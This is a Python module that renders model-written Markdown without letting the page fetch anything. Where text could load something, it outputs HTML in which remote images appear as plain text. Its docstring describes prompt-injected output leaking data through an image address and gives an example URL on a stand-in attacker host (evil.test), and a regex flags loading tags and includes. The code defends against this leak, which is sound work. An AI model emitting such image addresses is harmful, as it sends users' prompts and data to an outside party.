"""
Show a model's text safely: nothing in it makes the page fetch anything.

In: Markdown that a model wrote, perhaps at the wish of whoever wrote its input. Out: that same
Markdown where it holds nothing that loads by itself, else HTML made here, in which a picture is
its address. An address can carry the prompt away (`![](https://evil.test/?q=...)`), and a page
asks for it as soon as it is shown. Links stay links: to follow one is the reader's own act.
"""

import re
from collections.abc import Mapping, MutableMapping, Sequence
from functools import cache
from html import escape
from typing import TYPE_CHECKING, Any, Final

from llmlab.views.html.markup import NO_MATH

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.renderer import RendererHTML
    from markdown_it.token import Token

_LOADS: Final = re.compile(
    r"!\["  # a picture, whichever way its address is given
    r"|<[!?]|</?(?:style|script|svg|math|template|noscript|xmp|plaintext|title|textarea)\b"
    r"|\\(?:style|include|require|html|css|class|data|bbox)"  # what MathJax may be asked to draw
    r"|(?:```|~~~)\W*mermaid",  # a diagram may hold pictures
    re.IGNORECASE,
)
"""
Matches whatever might load something, in any dialect of Markdown; too wide on purpose.

Whether a `![` stands in a block of code is a question that two readers of Markdown may answer
differently. So it is not asked: where there is one, the page gets finished HTML.
"""

_TAG: Final = re.compile(r"<[a-z/]", re.IGNORECASE)
_ADDRESS: Final = re.compile(r"<https?://[^\s<>\"'()]*", re.IGNORECASE)

_DOLLARS: Final = re.compile(r"(?<!\\)\$(?=\d)")
"""The sign of an amount: between two of them a page would see a formula."""
_PICTURES: Final = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=%\s]*")
"""Pictures that are in the words themselves: there is nothing to fetch."""


def words_bundle(text: str, foot: str = "", *, remote_images: bool = False) -> dict[str, str]:
    """
    Return *text* as Markdown, or as HTML where Markdown would make a page fetch something.

    Args:
        text: What the model said.
        foot: HTML below it, safe already.
        remote_images: Whether the user allows a page to fetch what the words name.
    """
    if remote_images or not _may_load(text):
        words = _DOLLARS.sub(r"\\$", text)
        return {"text/markdown": f"{words}\n\n{foot}" if foot else words}
    return {"text/html": f'<div class="{NO_MATH}">{_reader().render(text)}</div>{foot}'}


def _may_load(text: str) -> bool:
    return bool(_LOADS.search(text)) or any(map(_has_attribute, text.split(">")))


def _has_attribute(piece: str) -> bool:
    """Say whether a tag may begin in *piece*, which ends where a tag would, and say `src=`."""
    tag = _TAG.search(piece)
    if tag is None or "=" not in piece[tag.start() :]:
        return False
    return _ADDRESS.fullmatch(piece, tag.start()) is None


@cache
def _reader() -> "MarkdownIt":
    """Read CommonMark with tables; HTML in it is text."""
    from markdown_it import MarkdownIt

    reader = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    reader.add_render_rule("image", _image)
    reader.add_render_rule("link_open", _link)
    return reader


def _image(
    renderer: "RendererHTML",
    tokens: "Sequence[Token]",
    at: int,
    options: Any,
    env: MutableMapping[str, Any],
) -> str:
    token = tokens[at]
    address = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    if _PICTURES.fullmatch(address):
        return f'<img alt="{escape(alt)}" src="{escape(address)}">'
    said = f"{alt}, {address}" if alt else address
    return f"[picture, not fetched: {escape(said)}]"


def _link(
    _renderer: "RendererHTML",
    tokens: "Sequence[Token]",
    at: int,
    _options: Any,
    _env: Mapping[str, Any],
) -> str:
    # The page that is opened learns nothing of the notebook, and cannot reach it.
    address = escape(str(tokens[at].attrGet("href") or ""))
    return f'<a href="{address}" target="_blank" rel="noopener noreferrer">'
